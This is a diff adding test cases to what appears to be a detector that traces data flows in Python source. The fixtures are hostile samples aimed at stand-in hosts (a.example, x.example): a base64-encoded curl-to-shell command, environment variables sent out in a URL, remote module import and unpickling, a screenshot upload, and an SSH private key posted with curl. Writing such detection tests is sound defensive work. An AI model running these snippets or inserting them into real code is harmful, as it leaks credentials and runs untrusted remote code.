@@ -383,3 +383,53 @@ def test_a_file_that_one_command_makes_and_another_starts_is_followed():
     )
     lines = [signal.evidence.line for signal in seen.signals]
     assert (2, 4) in {(lines[flow.source], lines[flow.sink]) for flow in seen.flows}
+
+
+ENCODED_COMMAND = """
+import base64, os
+command = "curl https://{host}/x | sh".format(host="a.example")
+encoded = base64.b64encode(command.encode("utf-8")).decode("utf-8")
+os.system(f"echo {encoded} | base64 -d | bash")
+"""
+
+
+def test_a_command_that_is_encoded_for_the_shell_is_known():
+    assert any("| base64 -d | bash" in text and "Y3VybCB" in text for _, text in layers(ENCODED_COMMAND))
+
+
+ALL_IN_ADDRESS = """
+import base64, os, requests
+text = base64.b64encode(str(os.environ).encode()).decode()
+requests.get("https://x.example/?q=" + text)
+"""
+MODULE_FROM_FILE = """
+import importlib.util, os, tempfile, urllib.request
+path = os.path.join(tempfile.mkdtemp(), "m.py")
+urllib.request.urlretrieve("https://x.example/m.py", path)
+importlib.util.spec_from_file_location("m", path)
+"""
+UNPICKLED = "import pickle, requests\npickle.loads(requests.get('https://x.example/p').content)"
+SHOT = """
+import mss, requests
+with mss.mss() as screen:
+    screen.shot(output="s.png")
+requests.post("https://x.example", files={"f": open("s.png", "rb")})
+"""
+
+
+@pytest.mark.parametrize(
+    ("source", "flow"),
+    [
+        (ALL_IN_ADDRESS, "env.read.all -> net.fetch"),
+        (MODULE_FROM_FILE, "net.fetch -> code.import"),
+        (UNPICKLED, "net.fetch -> code.marshal"),
+        (SHOT, "input.screen -> net.send"),
+    ],
+)
+def test_a_value_is_followed_on_its_way(source, flow):
+    assert flow in flows(source)
+
+
+def test_words_of_a_telling_program_are_read_as_a_command():
+    source = "import subprocess\nsubprocess.run(['curl', '-F', 'f=@/root/.ssh/id_rsa', 'https://x.example'])"
+    assert ("shell", "curl -F f=@/root/.ssh/id_rsa https://x.example") in layers(source)
